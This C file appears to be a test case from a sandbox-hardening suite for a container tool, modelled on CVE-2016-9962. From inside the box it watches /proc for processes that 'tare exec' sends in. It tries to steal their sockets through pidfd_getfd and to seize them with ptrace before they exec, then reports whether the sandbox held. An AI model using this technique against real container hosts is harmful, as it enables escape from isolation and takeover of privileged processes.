// attack: takes hold of the process that `tare exec` sends into the box, before it executes its command
// class: CVE-2016-9962
// row: X7
// exec: 10
// limits: {memory: 256MiB, processes: 100, wallTime: 120s}
// patterns: [ulimit++, quotas++]
#include "attack.h"
#include <dirent.h>
#include <sys/ptrace.h>

static bool seen[1 << 16];

/* Of a process that has just come. */
static bool take(pid_t pid) {
    char path[64];
    int process = (int)syscall(SYS_pidfd_open, pid, 0);
    bool taken = false;
    for (int fd = 3; fd < 12 && process >= 0; fd++) {
        int copy = (int)syscall(SYS_pidfd_getfd, process, fd, 0);
        struct stat status;
        if (copy >= 0 && fstat(copy, &status) == 0 && S_ISSOCK(status.st_mode)) {
            survived("a socket of the process that joins, by pidfd_getfd");
            taken = true;
        }
        if (copy >= 0) close(copy);
    }
    if (process >= 0) close(process);
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
        // its name once it is stopped: ptrace(2) waits for an execve(2) that has begun
        ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
        waitpid(pid, NULL, __WALL);
        char name[32];
        snprintf(path, sizeof path, "/proc/%d/comm", pid);
        // a command of the job's may be traced, for it is the payload's equal: the one that joins, and an application that starts late
        read_from(path, name, sizeof name);
        if (strcmp(name, "true\n") != 0 && strcmp(name, "sleep\n") != 0 && name[0] != 0) {
            survived("the process that joins, by ptrace, as %s", strtok(name, "\n"));
            taken = true;
        }
        // else its end would be this process's to wait for, and the caller of tare exec would wait as well
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
    return taken;
}

int main(void) {
    int came = 0, taken = 0;
    for (bool first = true;; first = false) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(processes)) != NULL;) {
            int pid = atoi(entry->d_name);
            if (pid <= 1 || pid >= 1 << 16 || seen[pid]) continue;
            seen[pid] = true;
            if (first) continue;
            if (came++ == 0) info("a process came");
            // until it has become what it is to be, or has gone
            for (int again = 0; again < 50 && taken < 5 && kill(pid, 0) == 0; again++) taken += take(pid);
        }
        closedir(processes);
        if (access("done", F_OK) == 0) break;
    }
    info("%d processes came into the box", came);
    if (came == 0) survived("nothing: no process came into the box, so that nothing is tried");
    if (taken == 0) held("none of them could be taken hold of before its exec");
    return 0;
}
